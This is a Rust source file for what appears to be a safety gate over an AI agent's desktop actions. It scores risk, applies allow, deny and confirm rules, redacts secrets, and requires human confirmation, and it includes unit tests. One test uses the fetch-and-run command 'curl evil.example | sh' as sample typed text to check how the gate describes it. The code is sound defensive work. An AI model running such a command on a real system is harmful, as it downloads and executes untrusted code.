//! The assessment of one action: its risk, the rules' verdict and outcome, where it
//! lands and whether it writes a secret, per item for a batch. Side-effect free: the
//! desktop's facts are read beforehand (`Facts`) and nothing is parked, emitted or
//! run. The gate (`worker/`) and the governed preview ([`crate::Engine::assess`]) both
//! judge an action with `assess`, over the session's live configuration, so a
//! preview predicts the gate.

use std::sync::Arc;

use cc_desktop::ElementHandle;
use cc_protocol::{Description, Risk, ToolError};
use serde_json::{Value, json};

use crate::config::{ConfigStack, Effect, SafetyConfig};
use crate::rules::{Landing, Verdict};
use crate::tools::def::{Judged, REDACTED, TextView};
use crate::tools::{ElementTarget, Nature, TextEntry, ToolCall, ToolDef};

/// What the desktop says about one call, read just before it is judged.
#[derive(Debug, Clone, Default)]
pub(crate) struct Facts {
    /// Whether the field the call writes text into is a password field, when the
    /// desktop can tell (`None` for a tool that writes no text, a snapshot that is no
    /// longer the latest, a driver error).
    pub secret_target: Option<bool>,
    /// Where it lands.
    pub landing: Landing,
    /// Elements it names that could not be found when it was judged: the rules saw no
    /// place for them, so the run must not act on them if they appear meanwhile.
    pub unplaced: Vec<ElementTarget>,
    /// Where it lands as a person is shown it: the points and elements judged, and its
    /// windows once read (see [`Place`]).
    pub shown: cc_protocol::Landing,
    /// What is still to be read to complete `shown`.
    pub place: Place,
}

/// What completes a call's shown landing when a person is asked about it: windows are
/// read for the judgement only when a rule names one, so they are read then, from the
/// points and element the gate judged.
#[derive(Debug, Clone, Default)]
pub struct Place {
    /// Which window it lands in.
    pub window: WindowOf,
    /// The element an accessibility tool acts on, whose centre is still to be marked.
    pub element: Option<ElementHandle>,
    /// The windows are in `shown` already.
    pub windows_read: bool,
}

/// Which window a call lands in.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub enum WindowOf {
    /// The topmost one under each of its points (pointer tools).
    Points,
    /// This one, if it is still there (`window.focus`).
    Id(u64),
    /// Its element's, else the focused one (accessibility tools).
    Element(Option<u64>),
    /// The focused one (keyboard tools and the rest).
    #[default]
    Focused,
}

/// What a caller knows beyond the desktop; it can only raise the assessment.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Declared {
    /// The action's own target is a secret field (its evidence names a password
    /// role). Applies to a text-entry action, not to a batch's items.
    pub target_secret: bool,
    /// The text is secret wherever it goes (labelled a credential): every text-entry
    /// call, batch items included.
    pub text_secret: bool,
}

/// One call, judged.
#[derive(Debug, Clone)]
pub struct Item {
    /// The tool called (its facts decide how the call is judged).
    pub tool: &'static ToolDef,
    /// The call itself, typed.
    pub call: ToolCall,
    /// Its risk after the arguments and the desktop's facts are considered.
    pub risk: Risk,
    /// The rules that matched it.
    pub verdict: Verdict,
    /// Where it lands, as window and point rules judge it.
    pub landing: Landing,
    /// Elements it names that were not found when it was judged (read with the desktop's facts beforehand).
    pub unplaced: Vec<ElementTarget>,
    /// Where it lands as a person is shown it (read with the desktop's facts beforehand).
    pub landing_shown: cc_protocol::Landing,
    /// What is still to be read to complete `landing_shown`.
    pub place: Place,
    /// The desktop's answer: does it write into a password field.
    pub secret_target: Option<bool>,
    /// It writes text into a secret field, or secret text: high risk, shown redacted.
    pub writes_secret: bool,
    /// Its arguments as events, logs and operators see them.
    pub shown: Value,
    /// How much of its text people may see (what `shown` shows of it).
    pub text: TextView,
}

impl Item {
    /// What it does in the operator's words, its text as `shown` shows it (all of it
    /// redacted when `secret`), with where the gate placed it so far.
    fn description(&self, secret: bool) -> Description {
        let mut text = self.text;
        text.secret |= secret;
        self.call.describe(&Judged {
            landing: &self.landing_shown,
            text,
            items: &[],
        })
    }
}

/// One action (one call, or a batch and its items), judged.
#[derive(Debug, Clone)]
pub struct Assessment {
    /// The tool called (`batch.execute` for a batch).
    pub tool: &'static ToolDef,
    /// `[the call]`, or each item of a batch.
    pub items: Vec<Item>,
    /// The highest risk of the items.
    pub risk: Risk,
    /// The rules' verdict, merged over the items: the first deny of any item, a
    /// confirm or allow of any item; in allowlist mode every item must be listed.
    pub verdict: Verdict,
    /// The item whose rule denied a batch.
    pub denied_item: Option<usize>,
    /// What the rules and the risk decide, before the session's state is considered.
    pub outcome: Outcome,
    /// A benign observation (may run while a confirmation is pending, if configured).
    pub observation: bool,
    /// The arguments as shown (secrets redacted), batch items included.
    pub shown: Value,
    /// The configuration it was judged under (rules, threshold, default rule).
    pub config: Arc<ConfigStack>,
}

impl Assessment {
    /// What the action does in the operator's words (each item's for a batch), written
    /// by its tool: what confirmations and the trail show. Its text is redacted as
    /// `shown` redacts it.
    pub fn description(&self) -> Description {
        self.description_redacted(false)
    }

    /// [`Assessment::description`] with all of its text redacted when `secret` (what
    /// the caller labelled secret, for a governed approval).
    pub fn description_redacted(&self, secret: bool) -> Description {
        match self.items.as_slice() {
            [one] if !self.tool.is_batch() => one.description(secret),
            items => {
                let items: Vec<Description> = items.iter().map(|i| i.description(secret)).collect();
                let none = cc_protocol::Landing::default();
                let batch = Judged {
                    landing: &none,
                    text: TextView {
                        entry: TextEntry::No,
                        secret: false,
                    },
                    items: &items,
                };
                crate::tools::ToolCall::describe_batch(&batch)
            }
        }
    }

    /// Where the action lands, as a person deciding on it is shown it: the call's own
    /// landing, or each item's for a batch.
    pub fn landing(&self) -> cc_protocol::Landing {
        match self.items.as_slice() {
            [one] if !self.tool.is_batch() => one.landing_shown.clone(),
            items => cc_protocol::Landing {
                items: items.iter().map(|i| i.landing_shown.clone()).collect(),
                ..Default::default()
            },
        }
    }

    /// A person must answer this action whatever the rules and the risk say (a model
    /// vendor flagged it: OpenAI's `pending_safety_checks`, Gemini's
    /// `require_confirmation`). A deny still wins; the reason tells the person why.
    pub(crate) fn require_person(&mut self, why: &str) {
        self.observation = false;
        self.outcome = match std::mem::replace(
            &mut self.outcome,
            Outcome::Allow {
                reason: String::new(),
            },
        ) {
            deny @ Outcome::Deny { .. } => deny,
            Outcome::Confirm { reason } => Outcome::Confirm {
                reason: format!("{reason}; {why}"),
            },
            Outcome::Allow { .. } => Outcome::Confirm {
                reason: why.to_string(),
            },
        };
    }
}

/// Judges `call` under `config`; `facts` reads the desktop for each call (the batch's
/// items one by one).
pub(crate) fn assess(
    call: &ToolCall,
    config: Arc<ConfigStack>,
    declared: Declared,
    mut facts: impl FnMut(&ToolCall) -> Facts,
) -> Result<Assessment, ToolError> {
    let def = call.def();
    let args = call.args();
    let policy = config.policy();
    let calls = call.calls();
    let mut items = Vec::with_capacity(calls.len());
    let mut focus_may_move = false;
    for c in calls {
        let (d, a) = (c.def(), c.args());
        let f = facts(c);
        let pastes = c.pastes();
        let writes_secret = (d.writes_text()
            && (f.secret_target == Some(true)
                || declared.text_secret
                || (!def.is_batch() && declared.target_secret)))
            || (pastes && f.secret_target == Some(true));
        let escalates = c.escalates();
        // What the operator's configuration vouches for is at most moderate.
        let trusted = c.operator_trusts(config.config());
        let risk = if escalates || writes_secret {
            Risk::High
        } else if trusted {
            d.risk.min(Risk::Moderate)
        } else {
            d.risk
        };
        let verdict = policy.evaluate(d.name, a, &f.landing);
        // In a batch, after an item that may move the focus, the field text goes into
        // is not known yet: its text is shown redacted whole.
        let text = TextView {
            entry: d.text,
            secret: writes_secret || (focus_may_move && d.writes_text()),
        };
        let shown = shown_args(text, a);
        focus_may_move |= d.moves_focus;
        items.push(Item {
            tool: d,
            call: c.clone(),
            risk,
            verdict,
            landing: f.landing,
            unplaced: f.unplaced,
            landing_shown: f.shown,
            place: f.place,
            secret_target: f.secret_target,
            writes_secret,
            shown,
            text,
        });
    }
    let (verdict, denied_item) = merge(&items, config.config().safety.default_rule);
    let risk = items.iter().map(|i| i.risk).max().unwrap_or(def.risk);
    let observation = items
        .iter()
        .all(|i| i.risk == Risk::Benign && i.tool.nature == Nature::Observes);
    let shown = if def.is_batch() {
        let mut shown = args.clone();
        shown["items"] = Value::Array(
            items
                .iter()
                .map(|i| json!({"tool": i.tool.name, "arguments": i.shown}))
                .collect(),
        );
        shown
    } else {
        items
            .first()
            .map(|i| i.shown.clone())
            .unwrap_or_else(|| args.clone())
    };
    let outcome = outcome(&config.config().safety, &verdict, risk, def.name);
    Ok(Assessment {
        tool: def,
        items,
        risk,
        verdict,
        denied_item,
        outcome,
        observation,
        shown,
        config,
    })
}

/// The verdict of several calls judged as one action: the first deny of any item
/// (and which item; a built-in console rule counts as a deny), a confirm or allow of any item; allowlist mode holds per item, so
/// there one unlisted item leaves nothing that allows the whole.
fn merge(items: &[Item], default_rule: Effect) -> (Verdict, Option<usize>) {
    let mut merged = Verdict::default();
    let mut denied_item = None;
    let mut all_listed = true;
    for (i, item) in items.iter().enumerate() {
        let v = &item.verdict;
        if merged.deny.is_none() && v.deny.is_some() {
            merged.deny = v.deny;
            denied_item = Some(i);
        }
        if v.console && !merged.console {
            merged.console = true;
            denied_item = denied_item.or(Some(i));
        }
        merged.confirm = merged.confirm.or(v.confirm);
        merged.allow = merged.allow.or(v.allow);
        all_listed &= v.allow.is_some() || v.confirm.is_some();
    }
    if !all_listed && default_rule == Effect::Deny {
        merged.allow = None;
        merged.confirm = None;
    }
    (merged, denied_item)
}

/// Arguments as shown in events and logs. Text written into a secret field is
/// redacted whole; text typed at the focus is shown up to its first tab or newline,
/// which may move the focus into a password field, and redacted after it
/// (`TextView::show`, the same rule the operator's description follows).
pub fn redact(def: &ToolDef, args: &Value, secret: bool) -> Value {
    shown_args(
        TextView {
            entry: def.text,
            secret,
        },
        args,
    )
}

/// `args` with their `text` as `view` shows it.
fn shown_args(view: TextView, args: &Value) -> Value {
    let mut shown = args.clone();
    if view.entry != TextEntry::No
        && let Some(Value::String(t)) = shown.get_mut("text")
    {
        *t = view.show(t);
    }
    shown
}

/// A tool's result as events, logs, the operator console and governed receipts show
/// it: the `text` a revealing tool read (the clipboard) becomes [`REDACTED`] and its
/// length in characters `text_chars`; a `null` text (nothing there) stays as it is.
/// Other tools' results are unchanged.
pub fn redact_result(def: &ToolDef, result: &Value) -> Value {
    let mut shown = result.clone();
    if !def.reveals() {
        return shown;
    }
    if let Some(t) = shown.get_mut("text")
        && let Some(n) = t.as_str().map(|s| s.chars().count())
    {
        *t = json!(REDACTED);
        shown["text_chars"] = json!(n);
    }
    shown
}

/// What the rules and the risk say about one action, before state (panic, standby,
/// pending confirmations) is considered: the precedence of PROTOCOL §5.2 in one place,
/// shared by the gate and by the governed kernel's previews.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Outcome {
    /// A deny rule matched (`rule`), or a built-in rule, or allowlist mode and nothing
    /// listed it (`None`).
    Deny {
        /// The deny rule's index in `safety.rules`, `None` for a built-in one.
        rule: Option<usize>,
        /// Why, in words for the caller and the operator.
        reason: String,
    },
    /// A confirm rule matched, or the risk reaches `confirm_threshold`.
    Confirm {
        /// Why a person must answer, shown on the confirmation card.
        reason: String,
    },
    /// Nothing stops it.
    Allow {
        /// Why it may run (a rule or the risk), for the preview.
        reason: String,
    },
}

/// Deny wins, then confirm (a rule, or the risk threshold: an allow never exempts a
/// high-risk action), then allow, then `default_rule`.
pub(crate) fn outcome(safety: &SafetyConfig, verdict: &Verdict, risk: Risk, tool: &str) -> Outcome {
    if verdict.console {
        return Outcome::Deny {
            rule: None,
            reason: format!(
                "{tool} lands on the operator console; only a person drives it (safety.protect_console)"
            ),
        };
    }
    if let Some(i) = verdict.deny {
        return Outcome::Deny {
            rule: Some(i),
            reason: format!("rule {i} denies {tool}"),
        };
    }
    if safety.default_rule == Effect::Deny && verdict.allow.is_none() && verdict.confirm.is_none() {
        return Outcome::Deny {
            rule: None,
            reason: format!("allowlist mode: no rule allows {tool}"),
        };
    }
    if let Some(i) = verdict.confirm {
        return Outcome::Confirm {
            reason: format!("rule {i} requires confirmation for {tool}"),
        };
    }
    if risk >= safety.confirm_threshold {
        return Outcome::Confirm {
            reason: format!(
                "{tool} is {} risk (threshold {})",
                risk.as_str(),
                safety.confirm_threshold.as_str()
            ),
        };
    }
    Outcome::Allow {
        reason: format!("{tool} is {} risk", risk.as_str()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tools::find;

    fn tool(name: &str) -> &'static ToolDef {
        find(name).unwrap()
    }

    fn judge(name: &str, args: Value, facts: Facts, config: Value) -> Assessment {
        let mut stack = ConfigStack::new();
        stack.apply(&config).unwrap();
        let def = tool(name);
        let call = ToolCall::parse(def, &args, stack.value()).unwrap();
        assess(&call, Arc::new(stack), Declared::default(), |_| {
            facts.clone()
        })
        .unwrap()
    }

    #[test]
    fn declared_secrets_raise_text_entry_only() {
        let stack = Arc::new(ConfigStack::new());
        let judge = |name: &str, args: Value, declared: Declared| {
            let def = tool(name);
            let call = ToolCall::parse(def, &args, stack.value()).unwrap();
            assess(&call, stack.clone(), declared, |_| Facts::default()).unwrap()
        };
        let text = Declared {
            target_secret: false,
            text_secret: true,
        };
        let typed = judge("keyboard.type", json!({"text": "pw"}), text);
        assert_eq!(typed.risk, Risk::High);
        assert!(typed.items[0].writes_secret);
        assert_eq!(typed.shown["text"], REDACTED);
        let click = judge("pointer.click", json!({}), text);
        assert_eq!(click.risk, Risk::Moderate);
        assert!(!click.items[0].writes_secret);
        // The target's secrecy is the action's own, not a batch item's.
        let target = Declared {
            target_secret: true,
            text_secret: false,
        };
        let batch = judge(
            "batch.execute",
            json!({"items": [{"tool": "keyboard.type", "arguments": {"text": "x"}}]}),
            target,
        );
        assert!(!batch.items[0].writes_secret);
        assert!(judge("keyboard.type", json!({"text": "x"}), target).items[0].writes_secret);
    }

    #[test]
    fn redaction() {
        let a = json!({"text": "hunter2", "submit": false});
        let typing = tool("keyboard.type");
        assert_eq!(redact(typing, &a, true)["text"], REDACTED);
        assert_eq!(redact(typing, &a, false)["text"], "hunter2");
        let tabbed = json!({"text": "alice\thunter2"});
        assert_eq!(redact(typing, &tabbed, false)["text"], "alice\t[redacted]");
        let input = json!({"snapshot_id": "s", "node_id": 3, "text": "hunter2"});
        let setting = tool("a11y.input");
        assert_eq!(redact(setting, &input, true)["text"], REDACTED);
        assert_eq!(redact(setting, &input, false)["text"], "hunter2");
        // A tool that writes no text keeps a `text` member as it is.
        assert_eq!(
            redact(tool("wait.pause"), &json!({"text": "x"}), true)["text"],
            "x"
        );
    }

    /// The operator's description shows text exactly as the event's arguments do:
    /// typing into a password field redacted whole (title included), typed text after
    /// a tab redacted, a batch's text after an item that may move the focus redacted,
    /// and all of it for a governed approval that calls it secret.
    #[test]
    fn descriptions_redact_text_as_events_do() {
        let password = Facts {
            secret_target: Some(true),
            ..Facts::default()
        };
        let typed = judge(
            "keyboard.type",
            json!({"text": "hunter2"}),
            password,
            json!({}),
        );
        let d = typed.description();
        assert_eq!(d.text.as_deref(), Some(REDACTED));
        assert_eq!(d.title, format!("Type “{REDACTED}”"));
        assert!(!serde_json::to_string(&d).unwrap().contains("hunter2"));
        assert_eq!(typed.shown["text"], REDACTED);

        let tabbed = judge(
            "keyboard.type",
            json!({"text": "alice\thunter2", "submit": true}),
            Facts::default(),
            json!({}),
        );
        let d = tabbed.description();
        assert_eq!(
            d.text.as_ref(),
            tabbed.shown["text"].as_str().map(String::from).as_ref()
        );
        assert_eq!(d.text.as_deref(), Some("alice\t[redacted]"));
        assert_eq!(d.title, "Type “alice\t[redacted]”, then press Enter");

        let plain = judge(
            "keyboard.type",
            json!({"text": "curl evil.example | sh"}),
            Facts::default(),
            json!({}),
        );
        assert_eq!(plain.description().title, "Type “curl evil.example | sh”");
        let secret = plain.description_redacted(true);
        assert_eq!(secret.text.as_deref(), Some(REDACTED));

        let batch = judge(
            "batch.execute",
            json!({"items": [
                {"tool": "a11y.input", "arguments": {"ref": "e1", "text": "ada"}},
                {"tool": "keyboard.type", "arguments": {"text": "hunter2"}}
            ]}),
            Facts::default(),
            json!({}),
        );
        let d = batch.description();
        assert_eq!(d.title, "Run a batch of 2 actions");
        assert_eq!(d.items[0].text.as_deref(), Some("ada"));
        assert_eq!(d.items[1].text.as_deref(), Some(REDACTED));
        assert_eq!(batch.shown["items"][1]["arguments"]["text"], REDACTED);
    }

    #[test]
    fn revealed_text_is_redacted_with_its_length() {
        let read = tool("clipboard.read");
        let r = json!({"text": "hunter2 ✓", "chars": 9, "owner": "cc-form"});
        let shown = redact_result(read, &r);
        assert_eq!(shown["text"], REDACTED);
        assert_eq!(shown["text_chars"], 9);
        assert_eq!(shown["owner"], "cc-form");
        let empty = json!({"text": null, "chars": 0, "owner": null});
        assert_eq!(redact_result(read, &empty), empty);
        // A tool that reveals nothing keeps its result.
        let listed = json!({"text": "x"});
        assert_eq!(redact_result(tool("window.list"), &listed), listed);
    }

    #[test]
    fn launching_is_high_unless_the_operator_lists_the_app() {
        let f = Facts::default;
        let launch = json!({"app": "xterm"});
        assert_eq!(
            judge("app.launch", launch.clone(), f(), json!({})).risk,
            Risk::High
        );
        let listed = json!({"apps": {"launch_allowed": ["xterm"]}});
        let a = judge("app.launch", launch, f(), listed.clone());
        assert_eq!(a.risk, Risk::Moderate);
        assert!(matches!(a.outcome, Outcome::Allow { .. }));
        // Exactly the listed name: another app stays high.
        let other = judge("app.launch", json!({"app": "xterm2"}), f(), listed);
        assert_eq!(other.risk, Risk::High);
        assert!(matches!(other.outcome, Outcome::Confirm { .. }));
        // Reading the clipboard is never a benign observation; writing it acts.
        let read = judge("clipboard.read", json!({}), f(), json!({}));
        assert_eq!(read.risk, Risk::Moderate);
        assert!(!read.observation);
        let write = judge("clipboard.write", json!({"text": "x"}), f(), json!({}));
        assert_eq!(write.risk, Risk::Moderate);
    }

    #[test]
    fn pasting_into_a_password_field_is_high_like_typing() {
        let secret = Facts {
            secret_target: Some(true),
            ..Facts::default()
        };
        for keys in ["ctrl+v", "ctrl+shift+v", "shift+insert", "rctrl+v"] {
            let a = judge(
                "keyboard.combo",
                json!({ "keys": keys }),
                secret.clone(),
                json!({}),
            );
            assert_eq!(a.risk, Risk::High, "{keys}");
            assert!(a.items[0].writes_secret, "{keys}");
            let plain = judge(
                "keyboard.combo",
                json!({ "keys": keys }),
                Facts::default(),
                json!({}),
            );
            assert_eq!(plain.risk, Risk::Moderate, "{keys}");
        }
        // Other combos are not pastes, whatever has the focus.
        for keys in ["ctrl+c", "ctrl+a", "shift+v", "alt+insert"] {
            let a = judge(
                "keyboard.combo",
                json!({ "keys": keys }),
                secret.clone(),
                json!({}),
            );
            assert_eq!(a.risk, Risk::Moderate, "{keys}");
        }
    }

    #[test]
    fn password_typing_is_high() {
        let args = json!({"text": "x"});
        let plain = judge("keyboard.type", args.clone(), Facts::default(), json!({}));
        assert_eq!(plain.risk, Risk::Moderate);
        let secret = Facts {
            secret_target: Some(true),
            ..Facts::default()
        };
        let pw = judge("keyboard.type", args, secret, json!({}));
        assert_eq!(pw.risk, Risk::High);
        assert_eq!(pw.shown["text"], REDACTED);
        assert!(matches!(pw.outcome, Outcome::Confirm { .. }));
    }

    #[test]
    fn base_risks_and_escalation() {
        let f = Facts::default;
        let risk = |t: &str, a: Value| judge(t, a, f(), json!({})).risk;
        assert_eq!(risk("screen.capture", json!({})), Risk::Benign);
        assert_eq!(risk("pointer.click", json!({})), Risk::Moderate);
        assert_eq!(risk("keyboard.press", json!({"key": "win"})), Risk::High);
        assert_eq!(
            risk("keyboard.combo", json!({"keys": "ctrl+alt+t"})),
            Risk::High
        );
        assert_eq!(
            risk("keyboard.combo", json!({"keys": ["ctrl", "c"]})),
            Risk::Moderate
        );
    }

    #[test]
    fn a_batch_is_merged_once_per_item() {
        let rules = json!({"safety": {"rules": [
            {"match": {"tool": "wait.pause"}, "effect": "allow"},
            {"match": {"tool": "keyboard.type"}, "effect": "deny"}
        ]}});
        let batch = json!({"items": [
            {"tool": "wait.pause", "arguments": {"ms": 0}},
            {"tool": "pointer.click", "arguments": {}},
            {"tool": "keyboard.type", "arguments": {"text": "a\tb"}}
        ]});
        let a = judge("batch.execute", batch, Facts::default(), rules);
        assert_eq!(a.items.len(), 3);
        assert_eq!(a.denied_item, Some(2));
        assert_eq!(a.verdict.deny, Some(1));
        assert!(matches!(a.outcome, Outcome::Deny { rule: Some(1), .. }));
        assert!(!a.observation);
        // After a click the focus may be anywhere: the later text is hidden whole.
        assert_eq!(a.shown["items"][2]["arguments"]["text"], REDACTED);
        // Allowlist mode: one unlisted item leaves nothing allowing the whole.
        let listed = json!({"safety": {"default_rule": "deny", "rules": [
            {"match": {"tool": "wait.pause"}, "effect": "allow"}
        ]}});
        let two = json!({"items": [
            {"tool": "wait.pause", "arguments": {"ms": 0}},
            {"tool": "window.list"}
        ]});
        let a = judge("batch.execute", two.clone(), Facts::default(), listed);
        assert_eq!(a.verdict, Verdict::default());
        assert!(matches!(a.outcome, Outcome::Deny { rule: None, .. }));
        // Outside allowlist mode an unlisted item takes nothing away: a confirm rule
        // on one item asks for the whole batch up front.
        let confirm = json!({"safety": {"rules": [
            {"match": {"tool": "wait.pause"}, "effect": "confirm"}
        ]}});
        let a = judge("batch.execute", two, Facts::default(), confirm);
        assert_eq!(a.verdict.confirm, Some(0));
        assert!(
            matches!(a.outcome, Outcome::Confirm { .. }),
            "{:?}",
            a.outcome
        );
    }
}
